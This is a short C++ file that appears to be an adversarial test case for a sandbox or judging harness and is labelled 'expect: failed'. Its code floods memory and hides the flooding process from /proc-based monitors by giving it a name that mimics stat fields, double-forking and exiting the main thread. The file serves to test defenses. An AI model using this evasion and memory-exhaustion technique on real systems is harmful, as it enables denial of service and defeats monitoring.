// SPDX-License-Identifier: MIT
// class: Host: memory floods, processes that hide
// tries: to hide a flood from readers of /proc: by names that look like other fields, by children that are not waited
//        for, by adopting orphans, and by being neither dumpable nor the first thread.
// expect: failed
#include "attack.h"

#include <sys/prctl.h>

#include <thread>

static void flood()
{
	prctl(PR_SET_NAME, ") Z 1 1 1 0 0\n", 0, 0, 0);
	prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
	for (;;)
		if (void *block = malloc(8 << 20))
			memset(block, 1, 8 << 20);
}

void custom_kernel(const input_t &, output_t &)
{
	tried();
	signal(SIGCHLD, SIG_IGN);
	prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0);
	if (fork() == 0) {
		setsid();
		if (fork() != 0)
			_exit(0);
		std::thread(flood).detach();
		syscall(SYS_exit, 0); // the first thread alone
	}
	for (;;)
		pause();
}
